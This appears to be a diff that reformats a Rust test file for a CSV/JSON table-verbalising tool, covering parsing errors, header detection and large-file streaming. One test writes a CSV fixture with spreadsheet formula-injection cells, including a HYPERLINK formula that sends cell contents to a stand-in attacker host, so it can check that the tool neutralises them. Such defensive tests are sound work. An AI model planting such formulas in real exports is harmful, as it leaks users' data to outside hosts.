@@ -154,7 +154,10 @@ fn one_student_per_file_is_one_table_of_records() {
     for (i, (line, file)) in lines.iter().zip(&files).enumerate() {
         assert_eq!(line["provenance"]["table"], "student");
         assert_eq!(line["provenance"]["row"], i + 1);
-        assert!(line["text"].as_str().unwrap().starts_with(&format!("The value for 'file' is {file}. The value for 'Matr_Nr' is ")), "{line}");
+        assert!(
+            line["text"].as_str().unwrap().starts_with(&format!("The value for 'file' is {file}. The value for 'Matr_Nr' is ")),
+            "{line}"
+        );
     }
     assert!(lines[3]["text"].as_str().unwrap().contains("'First_Name' is Mateo. The value for 'Last_Name' is García."), "{}", lines[3]);
     let (report, _) = inspect_json(&files.iter().map(PathBuf::from).collect::<Vec<_>>());
@@ -184,11 +187,8 @@ fn verbalise_csv_neutralises_formula_cells() {
     // were, so opening the export in a spreadsheet ran them.
     let dir = tempfile::tempdir().unwrap();
     let data = dir.path().join("=evil.csv");
-    std::fs::write(
-        &data,
-        "name,note\n\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",x\n@SUM(A1:A9),y\n+1,z\n-2+3,w\nAda,\"a;=1+1\"\n",
-    )
-    .unwrap();
+    std::fs::write(&data, "name,note\n\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",x\n@SUM(A1:A9),y\n+1,z\n-2+3,w\nAda,\"a;=1+1\"\n")
+        .unwrap();
     let template = dir.path().join("t.txt");
     std::fs::write(&template, "{{name}}").unwrap();
     let out = run(&["verbalise", "--format", "csv", "--template", template.to_str().unwrap(), data.to_str().unwrap()]);
@@ -230,15 +230,29 @@ fn four_header_types_and_transposition() {
     let (report, _) = inspect_json(&[fixture("headers/transposed.csv")]);
     let t = &report["tables"][0];
     assert_eq!(t["transposed"], true);
-    assert_eq!(column_types(t)[1..].to_vec(), [("Age".into(), "integer".into()), ("Party".into(), "text".into()), ("Born".into(), "date".into())]);
+    assert_eq!(
+        column_types(t)[1..].to_vec(),
+        [("Age".into(), "integer".into()), ("Party".into(), "text".into()), ("Born".into(), "date".into())]
+    );
 }
 
 #[test]
 fn bad_files_get_specific_errors_and_the_rest_still_loads() {
-    let files: Vec<PathBuf> = ["bad/empty.csv", "bad/garbage.csv", "types.csv", "bad/ragged.csv", "bad/header_only.csv", "bad/duplicate_names.csv", "bad/deep_mixed.json", "bad/latin1.csv", "bad/utf16.csv", "bad/invalid_utf8.csv"]
-        .iter()
-        .map(|f| fixture(f))
-        .collect();
+    let files: Vec<PathBuf> = [
+        "bad/empty.csv",
+        "bad/garbage.csv",
+        "types.csv",
+        "bad/ragged.csv",
+        "bad/header_only.csv",
+        "bad/duplicate_names.csv",
+        "bad/deep_mixed.json",
+        "bad/latin1.csv",
+        "bad/utf16.csv",
+        "bad/invalid_utf8.csv",
+    ]
+    .iter()
+    .map(|f| fixture(f))
+    .collect();
     let (report, out) = inspect_json(&files);
     assert_eq!(out.status.code(), Some(1), "errors make the exit status 1");
     let errors: Vec<&str> = report["errors"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
@@ -248,7 +262,14 @@ fn bad_files_get_specific_errors_and_the_rest_still_loads() {
     let names: Vec<&str> = report["tables"].as_array().unwrap().iter().map(|t| t["name"].as_str().unwrap()).collect();
     assert_eq!(names, ["types", "ragged", "header_only", "duplicate_names", "deep_mixed", "latin1", "utf16", "invalid_utf8"]);
     let warnings = report["warnings"].to_string();
-    for expected in ["ragged.csv, row 2", "header_only.csv", "duplicate column name", "deep_mixed.json, row 2, column \\\"a\\\"", "latin1.csv: not UTF-8", "invalid_utf8.csv, row 3"] {
+    for expected in [
+        "ragged.csv, row 2",
+        "header_only.csv",
+        "duplicate column name",
+        "deep_mixed.json, row 2, column \\\"a\\\"",
+        "latin1.csv: not UTF-8",
+        "invalid_utf8.csv, row 3",
+    ] {
         assert!(warnings.contains(expected), "missing {expected:?} in {warnings}");
     }
     let latin = report["tables"].as_array().unwrap().iter().find(|t| t["name"] == "latin1").unwrap();
@@ -304,8 +325,19 @@ fn verbalise_streams_a_million_rows_in_flat_memory_with_progress() {
             writeln!(
                 w,
                 "{},Person {},{},2024-{:02}-{:02},{:.2},{}%,{},{},{},C{},cat{},note {}",
-                i + 1, i % 5000, cities[(i % 8) as usize], i % 12 + 1, i % 28 + 1, (i * 37 % 100_000) as f64 / 100.0,
-                i % 100, if i % 3 == 0 { "no" } else { "yes" }, i % 17, (i % 1000) as f64 / 10.0, i % 977, i % 5, i % 13
+                i + 1,
+                i % 5000,
+                cities[(i % 8) as usize],
+                i % 12 + 1,
+                i % 28 + 1,
+                (i * 37 % 100_000) as f64 / 100.0,
+                i % 100,
+                if i % 3 == 0 { "no" } else { "yes" },
+                i % 17,
+                (i % 1000) as f64 / 10.0,
+                i % 977,
+                i % 5,
+                i % 13
             )
             .unwrap();
         }
